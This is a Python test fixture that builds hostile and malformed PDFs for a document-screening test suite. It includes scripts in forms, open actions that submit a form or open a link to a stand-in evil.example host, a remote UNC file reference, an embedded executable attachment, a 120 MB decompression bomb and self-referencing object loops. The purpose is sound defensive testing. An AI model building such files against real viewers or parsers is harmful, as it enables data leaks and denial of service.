"""PDF files with something wrong inside."""

import zlib
from collections.abc import Iterator

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from reports.importing.text import NOT_TEXT
from reports.screening import formats
from tests.hostile.files import Hostile, action, pdf, written

_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
_CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"


def hostile() -> Iterator[Hostile]:
    """Those that are refused, and those that are taken since nothing acts in them."""
    yield from _acting()
    yield from _loops()
    yield from _amounts()


def by_hand(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, from 1 on: catalogue, pages, page, and what else there is."""
    made, places = b"%PDF-1.7\n", []
    for number, inside in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, inside)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, len(made))
    return made + b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, table) + end


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream with these entries."""
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def _file(what: str, data: bytes, refusal: str = "") -> Hostile:
    return Hostile(what, "纪要.pdf", data, refusal, read=NOT_TEXT)


def _acting() -> Iterator[Hostile]:
    active, outside = formats.ACTIVE, formats.OUTSIDE
    script = DictionaryObject({NameObject("/K"): action("JavaScript", JS="x")})
    field = DictionaryObject({NameObject("/T"): TextStringObject("a"), NameObject("/AA"): script})
    form = DictionaryObject({NameObject("/Fields"): ArrayObject([field])})
    yield _file("a script in a field", pdf(AcroForm=form), active)
    later = action("GoTo")
    later[NameObject("/Next")] = ArrayObject([action("JavaScript", JS="x")])
    yield _file("a script behind another action", pdf(OpenAction=later), active)
    away = action("GoToR", F="\\\\evil\\share\\x.pdf")
    yield _file("a file of another computer on opening", pdf(OpenAction=away), outside)
    yield _file("an address on opening", pdf(OpenAction=action("URI", URI="http://evil.example/")), outside)
    yield _file(
        "a form that is sent on opening", pdf(OpenAction=action("SubmitForm", F="http://evil.example/")), outside
    )
    page = by_hand(_CATALOGUE, _PAGES, _PAGE[:-2] + b"/AA << /O << /S /URI /URI (http://evil.example/) >> >> >>")
    yield _file("an address on turning a page", page, outside)
    link = _PAGE[:-2] + b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://x.example/) >> >>] >>"
    yield _file("a link that somebody may press", by_hand(_CATALOGUE, _PAGES, link))
    note = _PAGE[:-2] + b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 4 0 R >>] >>"
    yield _file("a file at a note", by_hand(_CATALOGUE, _PAGES, note, b"<< /F (x.exe) >>"), active)
    screen = _PAGE[:-2] + b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>] >>"
    yield _file("a film with a program", by_hand(_CATALOGUE, _PAGES, screen), active)
    added = pdf() + b"\n9 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n%%EOF\n"
    yield _file("a script that was added behind the end", added, active)
    packed = zlib.compress(b"4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>")
    objects = stream(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    yield _file("a script in a packed object that no table names", by_hand(_CATALOGUE, _PAGES, _PAGE, objects))
    web = pdf().replace(b"%PDF-1.3", b"%PDF-1.3\n<script>alert(1)</script>", 1)
    yield _file("a web page in its first lines", web)
    yield _file("a script before its first line", b"#!/bin/sh\n" + pdf(), formats.OTHER_CONTENT)


def _loops() -> Iterator[Hostile]:
    broken = formats.DAMAGED
    yield _file("pages that hold themselves", by_hand(_CATALOGUE, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), broken)
    both = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"
    yield _file("pages that hold each other", by_hand(_CATALOGUE, *both), broken)
    yield _file("a catalogue that is itself its pages", by_hand(b"<< /Type /Catalog /Pages 1 0 R >>"), broken)
    yield _file("an object that is itself", by_hand(_CATALOGUE, b"2 0 R"), broken)
    yield _file("a page that is nothing", by_hand(_CATALOGUE, b"<< /Type /Pages /Kids [null] /Count 1 >>"), broken)
    yield _file("a page that isn't there", by_hand(_CATALOGUE, b"<< /Type /Pages /Kids [9 0 R] /Count 1 >>"), broken)
    yield _file("a trailer without a catalogue", by_hand(b"<< >>", b"<< >>"), broken)
    whole = by_hand(_CATALOGUE, _PAGES, _PAGE)
    table = whole.rindex(b"xref\n0")
    yield _file("tables that lead to themselves", by_hand(_CATALOGUE, _PAGES, _PAGE, trailer=b"/Prev %d" % table))
    yield _file("a table behind the file", by_hand(_CATALOGUE, _PAGES, _PAGE, trailer=b"/Prev 99999999999"))
    yield _file("a table that begins nowhere", whole.replace(b"startxref\n%d" % table, b"startxref\n-1"))
    yield _file("no table at all", whole[:table] + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n", broken)
    length = stream(b"BT ET").replace(b"/Length 5", b"/Length 4 0 R")
    contents = _PAGE[:-2] + b"/Contents 4 0 R >>"
    yield _file("a stream that is its own length", by_hand(_CATALOGUE, _PAGES, contents, length))


def _amounts() -> Iterator[Hostile]:
    broken = formats.DAMAGED
    contents = _PAGE[:-2] + b"/Contents 4 0 R >>"
    yield _file(
        "a thousand million pages", by_hand(_CATALOGUE, b"<< /Type /Pages /Kids [] /Count 1000000000 >>"), broken
    )
    yield _file(
        "a table of a thousand million objects",
        by_hand(_CATALOGUE, _PAGES, _PAGE).replace(b"xref\n0 4", b"xref\n0 1000000000"),
        broken,
    )
    yield _file("5,000 lists in each other", by_hand(_CATALOGUE, _PAGES, _PAGE, b"[" * 5_000 + b"]" * 5_000))
    yield _file(
        "a stream longer than the file",
        by_hand(_CATALOGUE, _PAGES, contents, stream(b"BT ET").replace(b"/Length 5", b"/Length 999999999999")),
    )
    bomb = zlib.compress(bytes(120_000_000), 9)
    yield _file(
        "a page of 120 MB of nothing", by_hand(_CATALOGUE, _PAGES, contents, stream(bomb, b"/Filter /FlateDecode"))
    )
    filters = b"/Filter [" + b"/FlateDecode " * 200 + b"]"
    yield _file(
        "a page packed 200 times", by_hand(_CATALOGUE, _PAGES, contents, stream(zlib.compress(b"BT ET"), filters))
    )
    yield _file("a packing that nobody knows", by_hand(_CATALOGUE, _PAGES, contents, stream(b"x", b"/Filter /Evil")))
    yield _file("an empty packed page", by_hand(_CATALOGUE, _PAGES, contents, stream(b"", b"/Filter /FlateDecode")))
    for what, way in (("by today's rules", "AES-256"), ("by old rules", "RC4-40")):
        writer = PdfWriter()
        writer.add_blank_page(width=200, height=200)
        writer.encrypt("secret", algorithm=way)
        yield _file(f"a password {what}", written(writer), formats.ENCRYPTED)
    yield _file(
        "a lock that nobody knows",
        by_hand(_CATALOGUE, _PAGES, _PAGE, trailer=b"/Encrypt << /Filter /Evil >>"),
        formats.ENCRYPTED,
    )
